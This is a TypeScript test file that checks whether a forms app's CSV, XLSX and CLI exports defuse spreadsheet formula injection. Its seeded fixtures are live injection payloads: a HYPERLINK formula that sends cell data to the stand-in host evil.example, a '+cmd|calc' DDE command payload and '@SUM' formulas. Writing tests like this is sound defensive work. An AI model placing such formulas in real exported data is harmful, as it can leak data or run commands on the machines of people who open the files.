import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../helpers/cli.js';
import { submitReport } from '../admin/seed.js';
import { formsApp } from './helpers.js';

type App = Awaited<ReturnType<typeof formsApp>>;
let t: App;
const TOKEN = 'export-token-0123456789';
const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")';

beforeAll(async () => {
  t = await formsApp({ ADMIN_API_TOKEN: TOKEN });
  const u = await t.forms.upsertUnit({ name: '@SUM(1+1)', district: '-2+3', type: '企业', highTrainingNeeds: false });
  await submitReport(
    t,
    u.id,
    '2026-11',
    { enterpriseStatus: 'ongoing', unionStatus: 'started', groupsNew: 2, highlights: EVIL, problems: '+cmd|calc' },
    'web:officer1',
  );
});
afterAll(async () => {
  await t.close();
});

/** Every cell of a CSV row that a spreadsheet would run as a formula. */
const formulas = (csv: string) =>
  csv
    .replace(/^\uFEFF/, '')
    .split('\r\n')
    .flatMap((line) => line.split(','))
    .map((c) => c.replace(/^"/, ''))
    .filter((c) => /^[=+\-@]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c));

describe('exports never carry a live formula', () => {
  it('GET /api/admin/export (csv and xlsx) quotes cells starting with = + - @', async () => {
    const get = (format: string) =>
      fetch(`${t.url}/api/admin/export?month=2026-11&format=${format}`, { headers: { authorization: `Bearer ${TOKEN}` } });
    const csv = await (await get('csv')).text();
    expect(csv).toContain(`"'${EVIL.replace(/"/g, '""')}"`);
    expect(csv).toContain("'@SUM(1+1)");
    expect(csv).toContain("'+cmd|calc");
    expect(formulas(csv)).toEqual([]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await (await get('xlsx')).arrayBuffer()) as never);
    const cells: string[] = [];
    wb.worksheets[0]!.eachRow((r) => r.eachCell((c) => cells.push(String(c.value))));
    expect(cells).toContain(`'${EVIL}`);
    expect(cells.filter((c) => /^[=+@]/.test(c))).toEqual([]);
  });

  it('cli export does the same', async () => {
    const r = await runCli(['export', '--month', '2026-11'], { prefix: t.config.REDIS_PREFIX });
    expect(r.code, r.err).toBe(0);
    expect(r.out).toContain("'@SUM(1+1)");
    expect(formulas(r.out)).toEqual([]);
  });
});
